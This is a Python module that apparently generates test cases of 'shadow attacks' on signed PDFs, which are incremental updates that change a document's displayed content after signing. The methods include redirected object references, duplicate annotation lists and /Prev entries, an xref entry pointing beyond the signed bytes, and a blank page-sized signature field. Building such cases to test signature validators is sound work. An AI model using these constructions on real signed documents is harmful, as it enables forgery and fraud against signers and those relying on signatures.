"""Shadow attacks: what is prepared before somebody signs, and switched on afterwards. `sign` is a function of bytes."""

import re

import documents
from attacks import ALTERED_TEXT, append_raw
from documents import stream

FORM = "/AcroForm << /Fields [7 0 R] /DA (/F1 12 Tf 0 g) >>"
TEXT_FIELD = (
    b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (So) /Rect [60 600 260 620] /F 4 /P 3 0 R /DA (/F1 12 Tf 0 g) /V () "
    b"/AP << /N 8 0 R >> >>"
)
PICTURE = stream(
    b"1 g 0 0 595 842 re f 0 g BT /F1 20 Tf 60 700 Td (Another text) Tj ET",
    "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>",
)


def text_of(data: bytes, number: int) -> bytes:
    """An object's text, as the last revision has it."""
    return re.findall(rb"(?:^|\n)%d 0 obj\n(.*?)\nendobj" % number, data, re.S)[-1]


def with_entry(text: bytes, entry: bytes) -> bytes:
    """A dictionary with one more entry."""
    return text.rstrip()[:-2] + b" " + entry + b" >>"


def store_leads_to_page(sign) -> bytes:
    """The security store leads to the page, which is replaced as if it were a list of certificates."""
    data = sign(documents.classic(documents.objects(catalog="/DSS << /X 3 0 R >>")))
    return append_raw(data, {3: text_of(data, 3).replace(b"/Contents 4 0 R", b"/Contents 90 0 R"), 90: ALTERED_TEXT})


def appearance_leads_to_page(sign) -> bytes:
    """A field's appearance leads to the page, whose content is replaced as if it were a part of the appearance."""
    shown = stream(b" ", "/Type /XObject /Subtype /Form /BBox [0 0 200 20] /X 3 0 R")
    made = documents.objects(catalog=FORM, page="/Annots [7 0 R]", more={7: TEXT_FIELD, 8: shown})
    return append_raw(sign(documents.classic(made)), {4: ALTERED_TEXT})


def annotations_twice(sign) -> bytes:
    """The page has two lists of annotations: readers that take the last one show a note."""
    data = sign(documents.one_page())
    note = b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 500 800] /Contents (Not approved) /DA (/F1 12 Tf 0 g) >>"
    catalog = text_of(data, 1).replace(b"/Extensions <<", b"/Extensions << /X 91 0 R")
    page = with_entry(text_of(data, 3), b"/Annots 91 0 R")
    return append_raw(data, {1: catalog, 3: page, 91: b"[92 0 R]", 92: note})


def previous_twice(sign) -> bytes:
    """A trailer that names two earlier sections: readers that take the last one show another page."""
    data = sign(documents.one_page())
    evil = append_raw(data, {4: ALTERED_TEXT})
    good, bad = (int(re.findall(rb"startxref\s+(\d+)", one)[-1]) for one in (data, evil))
    trailer = evil[evil.rindex(b"trailer") : evil.rindex(b"startxref")]
    trailer = re.sub(rb"/Prev \d+", b"/Prev %d /Prev %d" % (good, bad), trailer)
    out = evil[: evil.rindex(b"startxref")]
    return out + b"xref\n0 0\n" + trailer + b"startxref\n%d\n%%%%EOF\n" % len(out)


def entry_behind_end(sign) -> bytes:
    """The signed section has an entry that points behind the signed bytes, where content is put later."""
    made = documents.objects(more={8: stream(b"")})
    made[3] = made[3].replace(b"/Contents 4 0 R", b"/Contents [4 0 R 8 0 R]")
    base, far = documents.classic(made), 100_000
    data = sign(base.replace(b"%010d 00000 n " % base.index(b"8 0 obj"), b"%010d 00000 n " % far))
    section = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data.ljust(far) + b"8 0 obj\n" + ALTERED_TEXT + b"\nendobj\nstartxref\n" + section + b"\n%%EOF\n"


def picture_in_empty_field(sign) -> bytes:
    """An empty signature field as large as the page gets an appearance and no signature."""
    field = b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Later) /Rect [0 0 595 842] /F 4 /P 3 0 R >>"
    data = sign(documents.classic(documents.objects(catalog=FORM, page="/Annots [7 0 R]", more={7: field})))
    return append_raw(data, {7: with_entry(text_of(data, 7), b"/AP << /N 90 0 R >>"), 90: PICTURE})


def appearances_made_anew(sign) -> bytes:
    """What fields show is to be made anew from their values; `sign` certifies that nothing may change."""
    data = sign(documents.with_form())
    return append_raw(data, {1: text_of(data, 1).replace(b"/AcroForm <<", b"/AcroForm << /NeedAppearances true")})
